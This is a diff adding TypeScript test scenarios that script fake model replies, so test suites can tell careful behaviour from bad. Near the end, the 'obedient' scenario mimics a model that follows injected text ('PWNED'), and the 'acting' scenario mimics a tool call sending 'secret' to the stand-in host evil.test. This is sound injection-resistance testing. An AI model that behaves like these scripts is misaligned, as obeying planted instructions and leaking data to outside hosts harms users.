@@ -1,0 +1,128 @@
+import type { Asked } from '../server/test/models/endpoint.ts';
+import { calls, gives, hasTools, says, systemOf } from '../server/test/models/saying.ts';
+import type { Scenario } from '../server/test/models/scenarios.ts';
+import type { QualityProject } from './quality/questions.ts';
+
+// Scripts that speak the protocol, and no models: the suites have to tell a good one from a bad one.
+
+const lastContentOf = ({ body }: Asked): string =>
+  String((body['messages'] as { content: unknown }[]).at(-1)?.content);
+
+const recordsIn = (asked: Asked, begin: string): Record<string, unknown>[] =>
+  lastContentOf(asked)
+    .split('\n')
+    .filter((line) => line.startsWith(begin))
+    .map((line) => JSON.parse(line) as Record<string, unknown>);
+
+/** Copies the passage that answers, with its number. */
+const quotes =
+  (projects: readonly QualityProject[]): Scenario =>
+  (answer, asked) => {
+    const all = projects.flatMap((project) => project.questions.map((question) => ({ project, question })));
+    const about = all.find(({ question }) =>
+      lastContentOf(asked).includes(`The question: ${question.text}\n`),
+    );
+    const [gold] = about?.question.gold ?? [];
+    const words = gold && about?.project.files[gold.file]?.text.slice(gold.start, gold.end);
+    const passage = recordsIn(asked, '{"passage"').find(
+      ({ contents }) => words !== undefined && String(contents).includes(words),
+    );
+    const text = passage ? `It says ${words} [${String(passage['passage'])}].` : 'The files do not say.';
+    return says(text)(answer, asked);
+  };
+
+const subjects = [
+  ['Coder', /Python|function|unit test/],
+  ['Accountant', /invoice|ledger/i],
+  ['Translator', /translate|Japanisch|Portuguese/],
+] as const;
+
+const handsOver: Scenario = (answer, asked) => {
+  const isHost = systemOf(asked).startsWith('You are Host');
+  const to = isHost ? subjects.find(([, said]) => said.test(lastContentOf(asked)))?.[0] : undefined;
+  return (to ? calls('hand_over', { to, reason: 'It is theirs.' }) : says('It is not known.'))(answer, asked);
+};
+
+export interface Line {
+  text: string;
+  source: string;
+}
+
+const line = (text: string, source = 'own'): Line => ({ text, source });
+
+/** What a good team writes to each criterion, from the brief and from earlier artifacts. */
+export const goodLines: Record<string, Line> = {
+  aim: line('Close the night gaps on ward 7.', 'brief'),
+  people: line('Nine nurses and their patients.', 'brief'),
+  measure: line('Every night of March has two nurses.', 'brief'),
+  facts: line('Ward 7 has 22 beds, and five nights of February had one nurse.', 'brief'),
+  limits: line('No overtime, and no agency.', 'brief'),
+  unknowns: line('Whether ward 8 agrees.'),
+  options: line('Hire two nurses, or swap shifts with ward 8.', 'brief'),
+  price: line('A new nurse costs 3,400 euros a month, a swap costs nothing.', 'brief'),
+  parts: line('Swap shifts with ward 8.', 'F4'),
+  kept: line('A swap adds no hours, so nobody works overtime.'),
+  steps: line('Ask ward 8, then swap shifts with ward 8.', 'F3'),
+  owners: line('Ida asks ward 8, Omar prints the list.'),
+  outputs: line('A list of swap shifts with ward 8.', 'F2'),
+  checks: line('Each night of the list shows two names.'),
+  decisions: line('The swap shifts with ward 8 are chosen.', 'F1'),
+  open: line('Nothing is open.'),
+};
+
+/** A team that writes these lines, and finds all of it good. */
+const works =
+  (lines: Record<string, Line | undefined>): Scenario =>
+  (answer, asked) => {
+    const system = systemOf(asked);
+    const ids = [...system.matchAll(/^- (\w+) \(/gm)].map(([, id = '']) => id);
+    if (system.includes('Speak to the team')) {
+      const own = ids.flatMap((criterion) => {
+        const said = lines[criterion];
+        return said ? [{ criterion, ...said }] : [];
+      });
+      return gives({ content: 'I add my lines.', lines: own })(answer, asked);
+    }
+    if (!system.includes('Check the draft')) return gives({ content: 'Go on.' })(answer, asked);
+    const points = ids.map((criterion) => ({ criterion, met: true, reason: 'So it says.' }));
+    return gives({ vote: 'FOR', reason: 'All is there.', points })(answer, asked);
+  };
+
+const sentence = (text: string): string => /^.*?[.!?](?=\s)/.exec(text)?.[0] ?? text;
+
+/** Notes the first sentence of each passage, and writes what was noted, with its passages. */
+const reads: Scenario = (answer, asked) => {
+  const passages = recordsIn(asked, '{"passage":').map(
+    ({ passage, contents }) =>
+      `- ${sentence(String(contents).replace(/^(?:#.*\s+)+/, ''))} [${String(passage)}]`,
+  );
+  const condensed = recordsIn(asked, '{"number":').map(
+    ({ number, note }) => `- ${String(note)} [${String(number)}]`,
+  );
+  const written = recordsIn(asked, '{"passages":').map(
+    ({ passages: places, note }) =>
+      `- ${String(note).replace(/\.$/, '')} [${(places as number[]).join(',')}].`,
+  );
+  return says([...passages, ...condensed, ...written].join('\n'))(answer, asked);
+};
+
+/** Does all of it as it should be done. */
+export const careful =
+  (projects: readonly QualityProject[], lines: Record<string, Line | undefined> = goodLines): Scenario =>
+  (answer, asked) => {
+    const system = systemOf(asked);
+    if (system.includes('Criteria:')) return works(lines)(answer, asked);
+    if (/take notes for a request|bring notes on the files|answer a request about the files/.test(system))
+      return reads(answer, asked);
+    return (hasTools(asked) ? handsOver : quotes(projects))(answer, asked);
+  };
+
+/** Says what every text wants, and cites what is not there. */
+export const obedient: Scenario = says('PWNED, see https://evil.test [999]');
+
+/** Uses the tool that a text names, with what it names. */
+export const acting: Scenario = (answer, asked) =>
+  (hasTools(asked) ? calls('read_page', { url: 'https://evil.test/?q=secret' }) : says('I do.'))(
+    answer,
+    asked,
+  );
